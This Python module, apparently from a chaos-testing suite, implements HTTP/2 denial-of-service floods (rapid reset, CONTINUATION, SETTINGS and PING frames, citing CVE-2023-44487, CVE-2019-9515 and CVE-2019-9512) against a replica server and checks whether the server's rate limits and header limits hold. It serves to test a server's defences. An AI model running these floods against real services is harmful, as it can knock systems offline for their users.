"""Frame floods (issue 14 items 1, 4 and 6): rapid reset, CONTINUATION, SETTINGS and PING.

Each sends in batches written with one ``sendall`` (one read for the replica, as an attacker's
pipelining makes it), reads whatever the replica answered between batches, and stops at its count
bound, its time budget, or when the replica closes the connection or stops reading (no byte
taken for :data:`h2raw.HANG_S`: a replica that is only slow is waited for, since the verdict is
on what it answers to everything sent).
"""

from __future__ import annotations

import time
from typing import Final

from h2.errors import ErrorCodes
from hyperframe.frame import PingFrame, SettingsFrame

from chaos.attacks.context import LONG_DEADLINE, Context
from chaos.attacks.h2raw import HANG_S, HostileH2, request_headers
from chaos.attacks.outcome import Observed

RESET_PAIRS_MAX: Final = 30_000
"""The issue's 30,000 HEADERS+RST_STREAM pairs (about 1.5 MB to send)."""
BATCH: Final = 100
DECLARED_BODY: Final = 1 << 20
"""The body each reset request announces: larger than the initial stream window, so the replica
opens the window for it (what raised on a stream h2 had already closed)."""
CONTINUATION_CONNECTIONS: Final = 4
CONTINUATION_BYTES_MAX: Final = 63 << 20
"""Per connection: the issue's 63 x 1 MiB CONTINUATION frames, at whatever frame size the
replica advertises."""
FIRST_STREAM: Final = 1
CONTROL_FRAMES_MAX: Final = 500_000
"""The issue's 514k SETTINGS and 970k PINGs, rounded down to one bound for both."""
CONTROL_BATCH: Final = 1000


def rapid_reset(ctx: Context) -> Observed:
    """HEADERS and RST_STREAM(CANCEL) for the same stream in one write, over and over: the
    request must be freed at once, and past the reset budget the connection is told to calm down
    (CVE-2023-44487)."""
    target = ctx.target
    headers = request_headers(target.port, extra=[LONG_DEADLINE], body_len=DECLARED_BODY)
    conn = HostileH2(target.host, target.port, send_timeout_s=HANG_S)
    pairs = 0
    started = time.monotonic()
    stop_at = ctx.deadline()
    try:
        while pairs < RESET_PAIRS_MAX and time.monotonic() < stop_at:
            for _ in range(BATCH):
                sid = conn.open_stream(headers)
                conn.h2.reset_stream(sid, ErrorCodes.CANCEL)
            pairs += BATCH
            if not conn.flush():
                break
            conn.pump()
            if conn.tally.goaway:
                break
        conn.barrier()
        conn.pump(0.5)
        said = conn.tally.describe(f"{pairs:,} HEADERS+RST_STREAM pairs")
        limits = target.limits
        budget = limits.reset_burst + limits.reset_rate * (time.monotonic() - started)
        return Observed(said, _over_budget(conn, pairs, budget, "resets"))
    finally:
        conn.close()


def _over_budget(conn: HostileH2, sent: int, budget: float, what: str) -> tuple[str, ...]:
    """The problem when the connection outlived its rate budget (burst plus rate times the
    attack's duration, from the replica's limits) without GOAWAY(ENHANCE_YOUR_CALM)."""
    if sent > budget and conn.tally.goaway != "ENHANCE_YOUR_CALM":
        return (f"{sent:,} {what} past a budget of {budget:,.0f} without GOAWAY ENHANCE_YOUR_CALM",)
    return ()


def continuation_flood(ctx: Context) -> Observed:
    """A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION frames of
    the largest size the replica accepts, on several connections at once. The replica must stop
    at its header-size limit, not buffer what the client chooses."""
    target = ctx.target
    conns = [HostileH2(target.host, target.port) for _ in range(CONTINUATION_CONNECTIONS)]
    sent = [0] * len(conns)
    stop_at = ctx.deadline()
    try:
        opening = request_headers(target.port, method=b"GET", path=b"/health")
        for conn in conns:
            conn.flush(conn.raw_headers(FIRST_STREAM, opening, end_headers=False))
        while time.monotonic() < stop_at and any(
            _floodable(c, n) for c, n in zip(conns, sent, strict=True)
        ):
            for i, conn in enumerate(conns):
                if _floodable(conn, sent[i]):
                    size = conn.h2.max_outbound_frame_size
                    if conn.flush(conn.continuation(FIRST_STREAM, b"a" * size)):
                        sent[i] += size
                    conn.pump()
        for conn in conns:
            conn.pump(0.2)
        said = "; ".join(
            f"conn {i}: " + conn.tally.describe(f"{sent[i] >> 10:,} KiB of CONTINUATION")
            for i, conn in enumerate(conns)
        )
        return Observed(said)
    finally:
        for conn in conns:
            conn.close()


def _floodable(conn: HostileH2, sent: int) -> bool:
    tally = conn.tally
    return sent < CONTINUATION_BYTES_MAX and not (
        tally.closed or tally.send_blocked or tally.goaway
    )


def settings_flood(ctx: Context) -> Observed:
    """Empty SETTINGS frames, each of which the replica must acknowledge (CVE-2019-9515)."""
    return _control_flood(ctx, SettingsFrame(0).serialize(), "SETTINGS")


def ping_flood(ctx: Context) -> Observed:
    """PING frames, each of which the replica must answer (CVE-2019-9512)."""
    return _control_flood(ctx, PingFrame(0, opaque_data=b"flooding").serialize(), "PING")


def _control_flood(ctx: Context, frame: bytes, kind: str) -> Observed:
    target = ctx.target
    conn = HostileH2(target.host, target.port, send_timeout_s=HANG_S)
    batch = frame * CONTROL_BATCH
    frames = 0
    started = time.monotonic()
    stop_at = ctx.deadline()
    try:
        while frames < CONTROL_FRAMES_MAX and time.monotonic() < stop_at:
            if not conn.flush(batch):
                break
            frames += CONTROL_BATCH
            conn.pump()
            if conn.tally.goaway:
                break
        conn.barrier()
        conn.pump(0.5)
        said = conn.tally.describe(f"{frames:,} {kind} frames")
        limits = target.limits
        budget = limits.control_burst + limits.control_rate * (time.monotonic() - started)
        return Observed(said, _over_budget(conn, frames, budget, f"{kind} frames"))
    finally:
        conn.close()
